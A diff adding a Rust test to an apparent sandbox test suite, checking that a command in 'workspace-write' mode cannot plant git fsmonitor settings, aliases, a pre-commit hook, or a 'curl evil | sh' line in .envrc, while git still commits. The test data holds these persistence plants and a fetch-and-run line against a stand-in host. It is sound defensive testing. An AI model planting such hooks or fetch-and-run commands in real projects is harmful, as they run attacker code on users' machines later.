@@ -782,3 +782,56 @@ async fn a_command_cannot_undo_the_mounts_that_hide_secrets() {
     let seen = attack(&victim, script, &["--sandbox", "off"]).await;
     assert!(seen.contains(SSH_KEY), "{seen}");
 }
+
+/// What runs later is out of a command's reach in `workspace-write`: git's config and hooks and
+/// `.envrc` stay as the person left them (written to, or replaced by a rename), while git
+/// itself still commits. Unsandboxed the plant takes.
+#[tokio::test]
+async fn what_runs_later_is_read_only_and_git_still_commits() {
+    let Some(victim) = victim() else { return };
+    if !namespaces() {
+        return;
+    }
+    let git = |args: &[&str]| {
+        let status = Command::new("git")
+            .arg("-C")
+            .arg(&victim.project)
+            .args(args)
+            .status()
+            .unwrap();
+        assert!(status.success(), "git {args:?}");
+    };
+    git(&["init", "-q"]);
+    std::fs::write(victim.project.join(".envrc"), "export SAFE=1\n").unwrap();
+    let config_before = std::fs::read_to_string(victim.project.join(".git/config")).unwrap();
+    let script = "printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> .git/config; \
+                  cp .git/config /tmp/c && echo '[alias] x = !touch pwned' >> /tmp/c && \
+                  mv /tmp/c .git/config; \
+                  echo 'touch pwned' > .git/hooks/pre-commit; \
+                  echo 'curl evil | sh' >> .envrc; \
+                  echo hi > notes.txt && git add notes.txt && \
+                  git -c user.email=a@b -c user.name=a commit -qm notes && echo committed";
+    let seen = attack(&victim, script, &[]).await;
+    assert!(seen.contains("committed"), "git works inside: {seen}");
+    assert_eq!(
+        std::fs::read_to_string(victim.project.join(".git/config")).unwrap(),
+        config_before,
+        "{seen}"
+    );
+    assert!(
+        !victim.project.join(".git/hooks/pre-commit").exists(),
+        "{seen}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(victim.project.join(".envrc")).unwrap(),
+        "export SAFE=1\n"
+    );
+
+    attack(&victim, script, &["--sandbox", "off"]).await;
+    let config = std::fs::read_to_string(victim.project.join(".git/config")).unwrap();
+    assert!(
+        config.contains("fsmonitor") || config.contains("alias"),
+        "{config}"
+    );
+    assert!(victim.project.join(".git/hooks/pre-commit").exists());
+}
